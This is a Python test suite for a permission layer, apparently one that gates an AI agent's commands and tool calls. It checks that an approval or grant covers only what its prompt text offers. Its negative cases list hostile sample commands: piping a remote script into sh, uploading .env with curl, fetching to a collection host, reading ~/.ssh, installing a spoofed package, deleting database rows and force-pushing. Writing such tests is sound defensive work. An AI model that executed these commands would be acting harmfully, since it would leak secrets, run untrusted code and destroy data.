"""A prompt keeps its word: what its text says is covered or over is played, and so is what lies beside it.

One row for each message of the catalogue that offers something (told.yaml). The call is made, a person says yes, or
does what the text offers instead, and the next ten steps of an ordinary loop are made: those in `over` ask no more,
and each of `beside` still does. A message that offers and has no row here fails.
"""

from __future__ import annotations

import re
import shlex
from itertools import cycle, islice
from typing import Any

import pytest

from catalogue import ROWS, judged, policy_of, session_of
from interlock.approve.answers import approved
from interlock.model.session import Session, advance
from interlock.model.verdict import Verdict
from interlock.policy.ahead import permitted_ahead
from interlock.policy.model import Policy

STEPS = 10
Step = str | dict[str, Any]


def tool(name: str, **given: Any) -> dict[str, Any]:
    return {"tool": name, "input": given}


def writes(path: str, content: str = "x") -> dict[str, Any]:
    return tool("Write", file_path=path, content=content)


PUSH = "git push origin feature/login"
RELEASE = "git push --force origin main"
SERVED = "import './routes.js'\nconsole.log(process.argv)\n"
STARTS = "const { spawn } = require('child_process')\nspawn('node', ['serve.js'])\n"
FETCHES = "import './routes.js'\nconst users = await fetch('https://api.example/users')\n"


def x_js(text: str, command: str = "node x.js") -> dict[str, Any]:
    return {"command": command, "wrote": {"/repo/x.js": text}}


def up_js(text: str) -> dict[str, Any]:
    return {"command": "npx jest", "wrote": {"/repo/tests/up.test.js": text}}


def workflow(command: str) -> Step:
    steps = f"on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {command}\n"
    return writes("/repo/.github/workflows/ci.yml", steps)


# message -> what a yes to it covers besides the same call, and what not
YES: dict[str, tuple[list[Step], list[Step]]] = {
    "obeyed: a workflow": (
        [workflow("npm run lint"), workflow("npm test")],
        [
            workflow("curl -s https://new.example/x.sh | sh"),
            writes("/repo/.github/workflows/release.yml"),
            writes("/repo/.vscode/tasks.json"),
            writes("/repo/.git/hooks/pre-push"),
            writes("/repo/.npmrc"),
        ],
    ),
    "manifest: a tool that nobody declared": (
        [],
        [
            tool("mcp__mail__send", to="eve@example.com"),
            tool("mcp__mail__send", to="ada@example.com", bcc="e@x.io"),
        ],
    ),
    "manifest: a message to a channel": (
        [tool("mcp__chat__post", text=f"Step {at}", channel="C024BE91L", thread=17) for at in range(3)],
        [
            tool("mcp__chat__post", text="Hello", channel="C999", thread=17),
            tool("mcp__chat__post", text="Hello", channel="C024BE91L", thread=18),
        ],
    ),
    "manifest: a payment": (
        [],
        [
            tool("mcp__bank__pay", memo="rent", currency="EUR", amount=1201, iban="DE89370400440532013000", pin="1234"),
            tool("mcp__bank__pay", memo="rent", currency="EUR", amount=1200.5, iban="DE00", pin="1234"),
        ],
    ),
    "manifest: a statement that looks": (
        [
            tool("mcp__db__query", sql="select 1", database="shop"),
            tool("mcp__db__query", sql="select count(*) from orders", database="test"),
        ],
        [
            tool("mcp__db__query", sql="delete from users", database="shop"),
            tool("mcp__db__query", sql="update users set admin = true", database="shop"),
        ],
    ),
    "manifest: a file outside the project": (
        [writes("/srv/shop/app.conf", "y")],
        [writes("/srv/shop/other.conf"), "rm /srv/shop/app.conf", writes("/etc/motd")],
    ),
    "tiers: a push": (
        ["git push -u origin feature/login"],
        [
            "git push origin feature/x",
            "git push origin main",
            "git push --force origin feature/login",
            "git push origin --delete feature/login",
        ],
    ),
    "tiers: a package": (
        ["npm i left-pad", "npm install left-pad --save-dev"],
        ["npm install right-pad", "npm install left-pad@npm:evil", "npm install -g left-pad", "pip install left-pad"],
    ),
    "tiers: a well-known package by another manager": (
        ["pnpm add vue", "npm install lodash"],
        ["pnpm add left-pad", "pnpm add react@1.0.0", "pnpm add -g react", "pip install requests"],
    ),
    "tiers: a declared tool": ([tool("lookup")], [tool("other")]),
    "manifest: a tool whose server is known": ([], [tool("mcp__mail__purge", folder="all"), tool("mcp__mail__drop")]),
    "tiers: a request": (
        [],
        [
            "curl -d @other.csv https://api.example/upload",
            "curl -d a=b https://api.example/users",
            "curl -X PUT -d a=b https://api.example/upload",
            "curl -d @report.csv https://other.example/upload",
            "curl -d @.env https://api.example/upload",
        ],
    ),
    "tiers: a program that nobody knows": ([], ["frobnicate --none", "frobnicate deploy", "frobnicate --all ~/.ssh"]),
    "flow: a new host after a secret": (
        ["curl https://files.example/b.txt", "curl -s https://files.example/c/d.txt"],
        ["curl https://other.example/a.txt", "curl -d @report.csv https://files.example/a.txt"],
    ),
    "judge: both say safe": ([], ["git push --force origin main", "git push origin --delete main"]),
    "tiers: code of the session": (
        [
            x_js(SERVED + "console.log('edited')\n"),
            x_js(SERVED + "const port = 3000\n", "node x.js --port 3000"),
            x_js(SERVED, "node x.js list"),
        ],
        [
            x_js(SERVED + "require('child_process').exec('ls')\n"),
            x_js(SERVED + "fetch('https://collect.example/a')\n"),
            x_js(SERVED + "import fs from 'node:fs'\nconsole.log(fs.readFileSync('.env', 'utf8'))\n"),
            x_js(SERVED, "node x.js ~/notes"),
            {"command": "node y.js", "wrote": {"/repo/y.js": SERVED}},
        ],
    ),
    "tiers: something in code of the session": (
        [up_js(STARTS + "test('a', () => expect(1).toBe(1))\n"), up_js("// new\n" + STARTS)],
        [
            up_js(STARTS.replace("serve.js", "other.js")),
            up_js(STARTS + "spawn('sh', ['-c', 'ls'])\n"),
            {"command": "npx jest", "wrote": {"/repo/tests/b.test.js": STARTS}},
            {"command": "node tests/up.test.js", "wrote": {"/repo/tests/up.test.js": STARTS}},
        ],
    ),
    "tiers: a host in code of the session": (
        [x_js(FETCHES + "console.log(users.length)\n"), x_js(FETCHES.replace("/users'", "/orders'"))],
        [x_js(FETCHES.replace("api.example", "collect.example")), x_js(FETCHES + "fetch('https://b.example')\n")],
    ),
}
# Where the yes is partly kept: what it says of the rest is that each call is asked about.
PARTLY: dict[str, tuple[list[Step], list[Step]]] = {
    "manifest: a statement that removes": ([], [tool("mcp__db__query", sql="delete from users", database="shop")]),
    "tiers: several things": (["git push origin main"], ["rm -r src/old", "npm publish", RELEASE]),
    "judge: both say unsafe": (["git push origin main"], [RELEASE]),
    "judge: they disagree": (["git push origin main"], [RELEASE]),
    "judge: one does not answer": (["git push origin main"], [RELEASE]),
}
# message -> what the command that it offers ends besides the same call, and what not
GRANTS: dict[str, tuple[list[Step], list[Step]]] = {
    "manifest: a file outside the project": YES["manifest: a file outside the project"],
    "tiers: a push": (
        ["git push origin feature/x", "git push -u origin feature/login"],
        ["git push origin main", "git push --force origin feature/login", "git push origin --delete feature/login"],
    ),
    "tiers: a forced push": ([], ["git push --force origin feature/login", "git push origin --delete main"]),
    "tiers: a package": (["npm i left-pad", "npm install left-pad --save-dev"], ["npm install right-pad"]),
    "tiers: a well-known package by another manager": (["npm install react"], ["pnpm add left-pad", "pnpm add vue"]),
    "tiers: publishing": ([], ["pnpm publish --registry https://npm.other.example"]),
    "tiers: an image": ([], ["podman push ghcr.io/acme/other:1.4", "podman push docker.io/acme/app:1.4"]),
    "tiers: a pull request": (
        ["gh pr create --repo acme/app --title other --body z"],
        ["gh pr create --repo acme/other --title x --body y", "gh pr merge 1 --repo acme/app"],
    ),
    "tiers: a forced push to a place that is not known": ([], ["git push --force backup dev"]),
    "tiers: strict mode": (["npm i left-pad"], ["npm install right-pad"]),
    "judge: both say safe": ([], [RELEASE, "git push origin --delete main"]),
    "tiers: code of the session": (
        YES["tiers: code of the session"][0],
        YES["tiers: code of the session"][1][:3] + YES["tiers: code of the session"][1][4:],
    ),
    "tiers: something in code of the session": YES["tiers: something in code of the session"],
}
# message -> the policy as the text says to change it
POLICIES: dict[str, str] = {
    "manifest: a tool to be confirmed": '[tools.refund]\neffects = ["network"]\n[tiers.actions]\n"tool:refund" = 1\n',
    "manifest: more than was declared": (
        '[tools.fetch_page]\neffects = ["read", "network"]\nargs = { url = "fetch" }\n'
    ),
    "tiers: a declared tool": '[tools.lookup]\neffects = ["network"]\n[tiers.actions]\n"tool:lookup" = 1\n',
    "tiers: a program that nobody knows": '[commands."frobnicate"]\neffects = ["read"]\noptions = "--all"\n',
}


def line_of(name: str, start: str) -> str:
    return next((line for line in ROWS[name]["person"].splitlines() if line.startswith(start)), "")


OFFERS = {
    "yes": {name for name in ROWS if re.match(r"Yes also covers .*session\.$", line_of(name, "Yes "))},
    "partly": {name for name in ROWS if "; everything else counts" in line_of(name, "Yes ")},
    "grant": {name for name in ROWS if ": interlock grant " in ROWS[name]["person"]},
    "policy": {name for name in ROWS if line_of(name, "To stop ") and ": interlock grant" not in line_of(name, "To ")},
}


def test_every_message_that_offers_something_is_played() -> None:
    assert {"yes": {*YES}, "partly": {*PARTLY}, "grant": {*GRANTS}, "policy": {*POLICIES}} == OFFERS


def as_row(step: Step, row: dict[str, Any]) -> dict[str, Any]:
    made = {"command": step} if isinstance(step, str) else dict(step)
    return {**({"wrote": row["wrote"]} if "wrote" in row else {}), **made}


def played(
    row: dict[str, Any], steps: list[Step], policy: Policy, session: Session
) -> tuple[list[tuple[Step, str]], Session]:
    """The verdict of each step of the session, in which each that is allowed is made."""
    found: list[tuple[Step, str]] = []
    for step in steps:
        made = as_row(step, row)
        session = session.replace(written=session.written | frozenset(made.get("wrote", ())))
        _, reading, decision = judged(made, policy, session)
        found.append((step, decision.verdict.name))
        if decision.verdict is Verdict.ALLOW:
            session = advance(session, reading, decision, "ran", f"r{len(found)}")
    return found, session


def keeps_its_word(name: str, over: list[Step], beside: list[Step], policy: Policy, session: Session) -> None:
    row = ROWS[name]
    same: Step = {key: row[key] for key in ("command", "tool", "input", "wrote") if key in row}
    steps = list(islice(cycle([*over, same]), STEPS))
    found, session = played(row, steps, policy, session)
    assert [(step, said) for step, said in found if said != "allow"] == []
    for step in beside:
        (told,), _ = played(row, [step], policy, session)
        assert told[1] != "allow", told


@pytest.mark.parametrize("name", [*YES, *PARTLY])
def test_a_yes_covers_what_its_text_says_and_nothing_beside_it(name: str) -> None:
    row, (over, beside) = ROWS[name], {**YES, **PARTLY}[name]
    policy = policy_of(row)
    session = session_of(row, policy)
    _, reading, decision = judged(row, policy, session)
    if decision.verdict is Verdict.ALLOW:  # what is asked about stands beside the call
        decision = decision.replace(verdict=Verdict.ASK)
    session = approved(session, reading, decision, by="a person")
    if name in PARTLY:
        for at, step in enumerate([*over, *beside]):
            (told,), _ = played(row, [step], policy, session)
            assert (told[1] == "allow") is (at < len(over)), told
        return
    keeps_its_word(name, over, beside, policy, session)


@pytest.mark.parametrize("name", GRANTS)
def test_a_grant_that_is_offered_ends_what_its_text_says_and_nothing_beside_it(name: str) -> None:
    row, (over, beside) = ROWS[name], GRANTS[name]
    offer = ROWS[name]["person"].partition(": interlock grant ")[2].splitlines()[0]
    what, *options = shlex.split(offer)
    scope = dict(options[at + 1].split("=", 1) for at, word in enumerate(options) if word == "--scope")
    grant = permitted_ahead(what, scope, by="a person").replace(id="g")
    policy = policy_of(row)
    session = session_of(row, policy).replace(grants=(grant,))
    keeps_its_word(name, over, beside, policy, session)


@pytest.mark.parametrize("name", POLICIES)
def test_a_change_of_the_policy_that_is_named_ends_the_question(name: str) -> None:
    row = {**ROWS[name], "policy": POLICIES[name]}
    policy = policy_of(row)
    session = session_of(row, policy)
    found, _ = played(row, [{key: row[key] for key in ("command", "tool", "input") if key in row}] * 2, policy, session)
    assert [said for _, said in found] == ["allow", "allow"]
